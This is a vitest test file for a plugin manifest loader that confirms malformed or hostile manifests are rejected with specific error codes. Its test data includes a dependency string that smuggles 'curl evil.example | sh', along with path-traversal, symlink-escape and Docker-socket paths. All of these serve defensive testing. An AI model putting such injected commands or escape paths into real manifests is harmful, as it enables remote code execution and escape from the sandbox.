import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { LogoMeshError, ManifestRejectedError, type ErrorCode } from '../../src/errors.js';
import { loadManifest } from '../../src/manifest/index.js';
import { MAX_MANIFEST_BYTES } from '../../src/manifest/load.js';
import { dedent, folder, MAIN_PY, PluginFolders, symlink, type Tree } from './support/plugin-folder.js';

interface RejectCase {
  readonly name: string;
  /** The manifest text, written to plugin.yaml (or plugin.json for `format: 'json'`). */
  readonly manifest: string;
  readonly format?: 'yaml' | 'json';
  /** Where the manifest text is written, when not the usual plugin.yaml / plugin.json. */
  readonly manifestAt?: string;
  /** Files besides the manifest; main.py is always there unless the tree replaces it. */
  readonly tree?: Tree;
  readonly code: ErrorCode;
  /** The exact JSON pointer of the issue. */
  readonly path: string;
  /** When the code alone does not tell why (missing vs escaping), what `found` must say. */
  readonly found?: RegExp;
}

/** The four required fields, all valid; most cases add to or replace these. */
const HEAD = 'id: demo\nversion: 1.0.0\nruntime: python\nentrypoint: main.py\n';
const withHead = (rest: string): string => HEAD + dedent(rest);

const cases: RejectCase[] = [
  // --- required fields and types ---------------------------------------------------------
  { name: 'missing id', manifest: 'version: 1.0.0\nruntime: python\nentrypoint: main.py\n', code: 'LM_MANIFEST_INVALID', path: '/id' },
  { name: 'missing version', manifest: 'id: demo\nruntime: python\nentrypoint: main.py\n', code: 'LM_MANIFEST_INVALID', path: '/version' },
  { name: 'missing runtime', manifest: 'id: demo\nversion: 1.0.0\nentrypoint: main.py\n', code: 'LM_MANIFEST_INVALID', path: '/runtime' },
  { name: 'missing entrypoint', manifest: 'id: demo\nversion: 1.0.0\nruntime: python\n', code: 'LM_MANIFEST_INVALID', path: '/entrypoint' },
  {
    name: 'version as a number (1.0)',
    manifest: 'id: demo\nversion: 1.0\nruntime: python\nentrypoint: main.py\n',
    code: 'LM_MANIFEST_INVALID',
    path: '/version',
    found: /number/,
  },
  { name: 'id with uppercase letters', manifest: 'id: DataProcessor\nversion: 1.0.0\nruntime: python\nentrypoint: main.py\n', code: 'LM_MANIFEST_INVALID', path: '/id' },
  { name: 'id with an underscore', manifest: 'id: data_processor\nversion: 1.0.0\nruntime: python\nentrypoint: main.py\n', code: 'LM_MANIFEST_INVALID', path: '/id' },
  { name: 'id longer than 63 characters', manifest: `id: ${'a'.repeat(64)}\nversion: 1.0.0\nruntime: python\nentrypoint: main.py\n`, code: 'LM_MANIFEST_INVALID', path: '/id' },
  { name: 'version that is not semver', manifest: 'id: demo\nversion: "1.0"\nruntime: python\nentrypoint: main.py\n', code: 'LM_MANIFEST_INVALID', path: '/version' },
  { name: 'version with a v prefix', manifest: 'id: demo\nversion: v1.0.0\nruntime: python\nentrypoint: main.py\n', code: 'LM_MANIFEST_INVALID', path: '/version' },
  { name: 'unknown runtime (java)', manifest: 'id: demo\nversion: 1.0.0\nruntime: java\nentrypoint: main.py\n', code: 'LM_MANIFEST_INVALID', path: '/runtime' },
  { name: 'unknown top-level field', manifest: withHead('permissions: [all]\n'), code: 'LM_MANIFEST_INVALID', path: '/permissions' },
  {
    name: 'unknown field inside resources',
    manifest: withHead(`
      resources:
        maxMemoryMB: 64
        maxDiskMB: 100
    `),
    code: 'LM_MANIFEST_INVALID',
    path: '/resources/maxDiskMB',
  },
  {
    name: 'resource limit as a string',
    manifest: withHead(`
      resources:
        maxMemoryMB: "64"
    `),
    code: 'LM_MANIFEST_INVALID',
    path: '/resources/maxMemoryMB',
  },
  {
    name: 'unknown field inside a capability',
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read]
          paths: [data]
          recursive: true
    `),
    tree: { data: folder },
    code: 'LM_MANIFEST_INVALID',
    path: '/capabilities/0/recursive',
  },
  {
    name: 'unknown permission (execute)',
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read, execute]
          paths: [data]
    `),
    tree: { data: folder },
    code: 'LM_MANIFEST_INVALID',
    path: '/capabilities/0/permissions/1',
  },
  {
    name: 'filesystem capability without paths',
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read]
    `),
    code: 'LM_MANIFEST_INVALID',
    path: '/capabilities/0/paths',
  },
  {
    name: 'network capability without hosts',
    manifest: withHead(`
      capabilities:
        - id: api
          scope: network
    `),
    code: 'LM_MANIFEST_INVALID',
    path: '/capabilities/0/hosts',
  },
  {
    name: 'network host given as a URL',
    manifest: withHead(`
      capabilities:
        - id: api
          scope: network
          hosts: ["https://api.example.com"]
    `),
    code: 'LM_MANIFEST_INVALID',
    path: '/capabilities/0/hosts/0',
  },
  {
    name: 'duplicate capability ids',
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read]
          paths: [data]
        - id: data
          scope: ui
    `),
    tree: { data: folder },
    code: 'LM_MANIFEST_INVALID',
    path: '/capabilities/1/id',
  },
  {
    name: 'python package with shell characters',
    manifest: withHead(`
      dependencies:
        packages:
          python: ["numpy; curl evil.example | sh"]
    `),
    code: 'LM_MANIFEST_INVALID',
    path: '/dependencies/packages/python/0',
  },

  // --- entrypoint ---------------------------------------------------------------------------
  {
    name: "entrypoint '../x.py'",
    manifest: 'id: demo\nversion: 1.0.0\nruntime: python\nentrypoint: ../outside/evil.py\n',
    code: 'LM_MANIFEST_ENTRYPOINT',
    path: '/entrypoint',
  },
  {
    name: 'entrypoint as an absolute path',
    manifest: 'id: demo\nversion: 1.0.0\nruntime: python\nentrypoint: /plugin/main.py\n',
    code: 'LM_MANIFEST_ENTRYPOINT',
    path: '/entrypoint',
    found: /absolute/,
  },
  {
    name: 'entrypoint file that does not exist',
    manifest: 'id: demo\nversion: 1.0.0\nruntime: python\nentrypoint: app.py\n',
    code: 'LM_MANIFEST_ENTRYPOINT',
    path: '/entrypoint',
    found: /nothing/,
  },
  {
    name: 'entrypoint that is a folder',
    manifest: 'id: demo\nversion: 1.0.0\nruntime: python\nentrypoint: app\n',
    tree: { 'app/__main__.py': MAIN_PY },
    code: 'LM_MANIFEST_ENTRYPOINT',
    path: '/entrypoint',
    found: /folder/,
  },
  {
    name: 'entrypoint symlink pointing outside the plugin folder',
    manifest: HEAD,
    tree: { 'main.py': symlink('../outside/evil.py') },
    code: 'LM_MANIFEST_ENTRYPOINT',
    path: '/entrypoint',
    found: /resolves to/,
  },

  // --- capability paths ---------------------------------------------------------------------
  {
    name: "capability path with '..' traversal",
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read]
          paths: ["data/../../outside/**"]
    `),
    tree: { data: folder },
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
  },
  {
    name: "capability path with '..' written with backslashes",
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read]
          paths: ['data\\..\\..\\outside']
    `),
    tree: { data: folder },
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
  },
  {
    name: 'absolute capability path',
    manifest: withHead(`
      capabilities:
        - id: etc
          scope: filesystem
          permissions: [read]
          paths: [/etc]
    `),
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
    found: /absolute/,
  },
  {
    name: 'Windows drive capability path',
    manifest: withHead(`
      capabilities:
        - id: c
          scope: filesystem
          permissions: [read]
          paths: ['C:\\Users']
    `),
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
    found: /absolute/,
  },
  {
    name: 'capability path that is a symlink to a folder outside (symlink escape)',
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read]
          paths: ["data/**"]
    `),
    tree: { data: symlink('../outside') },
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
    found: /resolves to/,
  },
  {
    name: 'capability path through a symlink to the Docker socket',
    manifest: withHead(`
      capabilities:
        - id: sock
          scope: filesystem
          permissions: [read, write]
          paths: [docker.sock]
    `),
    tree: { 'docker.sock': symlink('/var/run/docker.sock') },
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
  },
  {
    name: 'dangling capability symlink',
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read]
          paths: [data]
    `),
    tree: { data: symlink('gone') },
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
    found: /dangling/,
  },
  {
    name: "capability path with a glob in the middle ('data/*.csv')",
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read]
          paths: [data/rows.csv, "data/*.csv"]
    `),
    tree: { 'data/rows.csv': 'a,b\n' },
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/1',
  },
  {
    name: 'capability path that does not exist',
    manifest: withHead(`
      capabilities:
        - id: data
          scope: filesystem
          permissions: [read]
          paths: ["data/**"]
    `),
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
    found: /nothing/,
  },
  {
    name: "write grant covering the whole plugin folder ('./**')",
    manifest: withHead(`
      capabilities:
        - id: everything
          scope: filesystem
          permissions: [read, write]
          paths: ["./**"]
    `),
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
  },
  {
    name: 'write grant on the manifest file itself',
    manifest: withHead(`
      capabilities:
        - id: self
          scope: filesystem
          permissions: [write]
          paths: [plugin.yaml]
    `),
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
  },
  {
    name: 'write grant on the folder the manifest symlink resolves into',
    manifest: withHead(`
      capabilities:
        - id: conf
          scope: filesystem
          permissions: [write]
          paths: ["conf/**"]
    `),
    manifestAt: 'conf/plugin.yaml',
    tree: { 'plugin.yaml': symlink('conf/plugin.yaml') },
    code: 'LM_MANIFEST_PATH',
    path: '/capabilities/0/paths/0',
  },

  // --- resource limits ----------------------------------------------------------------------
  { name: 'maxMemoryMB 999999', manifest: withHead('resources: { maxMemoryMB: 999999 }\n'), code: 'LM_MANIFEST_LIMIT', path: '/resources/maxMemoryMB' },
  { name: 'maxCpuPercent 0', manifest: withHead('resources: { maxCpuPercent: 0 }\n'), code: 'LM_MANIFEST_LIMIT', path: '/resources/maxCpuPercent' },
  { name: 'maxFileHandles 5', manifest: withHead('resources: { maxFileHandles: 5 }\n'), code: 'LM_MANIFEST_LIMIT', path: '/resources/maxFileHandles' },
  { name: 'maxProcesses 1', manifest: withHead('resources: { maxProcesses: 1 }\n'), code: 'LM_MANIFEST_LIMIT', path: '/resources/maxProcesses' },
  { name: 'maxTmpMB 100000', manifest: withHead('resources: { maxTmpMB: 100000 }\n'), code: 'LM_MANIFEST_LIMIT', path: '/resources/maxTmpMB' },

  // --- documents that do not parse, or are not a mapping ------------------------------------
  {
    name: 'YAML syntax error (unterminated quote)',
    manifest: 'id: demo\nversion: 1.0.0\nruntime: python\nentrypoint: "main.py\n',
    code: 'LM_MANIFEST_PARSE',
    path: '/entrypoint',
  },
  { name: 'duplicate key in YAML', manifest: HEAD + 'id: other\n', code: 'LM_MANIFEST_PARSE', path: '/id' },
  {
    name: 'duplicate key in JSON',
    format: 'json',
    manifest: dedent(`
      {
        "id": "demo",
        "version": "1.0.0",
        "runtime": "python",
        "entrypoint": "main.py",
        "resources": { "maxMemoryMB": 64, "maxMemoryMB": 65536 }
      }
    `),
    code: 'LM_MANIFEST_PARSE',
    path: '/resources/maxMemoryMB',
  },
  {
    name: 'JSON with an unknown field',
    format: 'json',
    manifest: '{"id": "demo", "version": "1.0.0", "runtime": "python", "entrypoint": "main.py", "name": "Demo"}\n',
    code: 'LM_MANIFEST_INVALID',
    path: '/name',
  },
  { name: 'manifest that is a YAML list', manifest: '- id: demo\n- version: 1.0.0\n', code: 'LM_MANIFEST_PARSE', path: '' },
  { name: 'manifest that is a plain string', manifest: 'demo\n', code: 'LM_MANIFEST_PARSE', path: '' },
  { name: 'empty file', manifest: '', code: 'LM_MANIFEST_PARSE', path: '' },
  { name: 'file with only a comment', manifest: '# TODO\n', code: 'LM_MANIFEST_PARSE', path: '' },
];

const folders = new PluginFolders();
afterAll(() => folders.removeAll());

/** Make the case's plugin folder; returns the folder and the manifest path loadManifest reports. */
function setUp(c: RejectCase): { dir: string; file: string } {
  const name = c.format === 'json' ? 'plugin.json' : 'plugin.yaml';
  const dir = folders.create({ 'main.py': MAIN_PY, [c.manifestAt ?? name]: c.manifest, ...c.tree });
  return { dir, file: path.join(dir, name) };
}

function rejection(target: string): ManifestRejectedError {
  try {
    loadManifest(target);
  } catch (err) {
    if (err instanceof ManifestRejectedError) return err;
    throw err;
  }
  throw new Error(`expected ${target} to be rejected, but it loaded`);
}

describe('loadManifest rejects a broken manifest', () => {
  it('has a broad table of cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(24);
    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
  });

  const titled = cases.map((c) => [`${c.name} -> ${c.code} at ${c.path || '(root)'}`, c] as const);
  it.each(titled)('%s', (_title, c) => {
    const { dir, file } = setUp(c);
    expect(() => loadManifest(dir)).toThrow(ManifestRejectedError);
    const err = rejection(dir);

    expect(err.issues.map((i) => ({ code: i.code, path: i.path }))).toContainEqual({ code: c.code, path: c.path });
    if (c.found) {
      const hit = err.issues.find((i) => i.code === c.code && i.path === c.path);
      expect(hit?.found).toMatch(c.found);
    }
    for (const issue of err.issues) {
      expect(issue.file).toBe(file);
      expect(issue.expected).toEqual(expect.stringMatching(/\S/));
      expect(issue.found).toEqual(expect.stringMatching(/\S/));
      if (c.format !== 'json') expect(issue.line).toEqual(expect.any(Number));
    }
  });
});

describe('a rejected manifest reports every issue at once', () => {
  const MANY = dedent(`
    id: Bad_Id
    version: 1.0
    runtime: java
    entrypoint: ../outside/evil.py
    color: blue
    resources:
      maxMemoryMB: 999999
      maxCpuPercent: 0
    capabilities:
      - id: data
        scope: filesystem
        permissions: [read]
        paths: [/etc]
      - id: data
        scope: network
  `);

  it('lists each distinct issue with its line, sorted by line', () => {
    const dir = folders.create({ 'plugin.yaml': MANY });
    const err = rejection(dir);
    const found = err.issues.map((i) => [i.code, i.path, i.line]);

    expect(found).toEqual(
      expect.arrayContaining([
        ['LM_MANIFEST_INVALID', '/id', 1],
        ['LM_MANIFEST_INVALID', '/version', 2],
        ['LM_MANIFEST_INVALID', '/runtime', 3],
        ['LM_MANIFEST_ENTRYPOINT', '/entrypoint', 4],
        ['LM_MANIFEST_INVALID', '/color', 5],
        ['LM_MANIFEST_LIMIT', '/resources/maxMemoryMB', 7],
        ['LM_MANIFEST_LIMIT', '/resources/maxCpuPercent', 8],
        ['LM_MANIFEST_PATH', '/capabilities/0/paths/0', 13],
        ['LM_MANIFEST_INVALID', '/capabilities/1/hosts', 14],
        ['LM_MANIFEST_INVALID', '/capabilities/1/id', 14],
      ]),
    );
    expect(new Set(err.issues.map((i) => `${i.code} ${i.path}`)).size).toBe(err.issues.length);
    const lines = err.issues.map((i) => i.line ?? 0);
    expect(lines).toEqual([...lines].sort((a, b) => a - b));
  });

  it('takes its own code from the first issue and names every issue in its message', () => {
    const dir = folders.create({ 'plugin.yaml': MANY });
    const err = rejection(dir);
    expect(err.code).toBe(err.issues[0]?.code);
    expect(err.details.file).toBe(path.join(dir, 'plugin.yaml'));
    for (const issue of err.issues) {
      expect(err.message).toContain(`${issue.file}:${issue.line}:${issue.column} ${issue.code} ${issue.path}`);
    }
  });
});

describe('a manifest over the size limit', () => {
  it('is refused before parsing', () => {
    const dir = folders.create({ 'main.py': MAIN_PY, 'plugin.yaml': HEAD + `# ${'x'.repeat(MAX_MANIFEST_BYTES)}\n` });
    const err = rejection(dir);
    expect(err.issues).toEqual([expect.objectContaining({ code: 'LM_MANIFEST_PARSE', path: '', file: path.join(dir, 'plugin.yaml') })]);
  });
});

describe('a plugin folder without exactly one manifest', () => {
  const notFound = (target: string): LogoMeshError => {
    try {
      loadManifest(target);
    } catch (err) {
      if (err instanceof LogoMeshError) return err;
      throw err;
    }
    throw new Error(`expected ${target} to be refused, but it loaded`);
  };

  it.each<{ name: string; tree: Tree }>([
    { name: 'no manifest at all', tree: { 'main.py': MAIN_PY } },
    { name: 'both plugin.yaml and plugin.json', tree: { 'main.py': MAIN_PY, 'plugin.yaml': HEAD, 'plugin.json': '{"id": "demo"}\n' } },
    { name: 'both plugin.yaml and plugin.yml', tree: { 'main.py': MAIN_PY, 'plugin.yaml': HEAD, 'plugin.yml': HEAD } },
  ])('$name -> LM_MANIFEST_NOT_FOUND, not a ManifestRejectedError', ({ tree }) => {
    const dir = folders.create(tree);
    expect(() => loadManifest(dir)).toThrow(LogoMeshError);
    const err = notFound(dir);
    expect(err).not.toBeInstanceOf(ManifestRejectedError);
    expect(err.code).toBe('LM_MANIFEST_NOT_FOUND');
    expect(err.details.file).toBe(dir);
    expect(err.details.expected).toEqual(expect.stringMatching(/\S/));
    expect(err.details.found).toEqual(expect.stringMatching(/\S/));
  });

  it('a path that does not exist -> LM_MANIFEST_NOT_FOUND', () => {
    const dir = folders.create({});
    const missing = path.join(dir, 'no-such-plugin');
    const err = notFound(missing);
    expect(err).not.toBeInstanceOf(ManifestRejectedError);
    expect(err.code).toBe('LM_MANIFEST_NOT_FOUND');
    expect(err.details).toMatchObject({ file: missing, found: 'nothing' });
  });

  it('a manifest file given directly is used even beside another manifest', () => {
    const dir = folders.create({ 'main.py': MAIN_PY, 'plugin.yaml': HEAD, 'plugin.json': '{}' });
    expect(loadManifest(path.join(dir, 'plugin.yaml')).manifest.id).toBe('demo');
  });
});
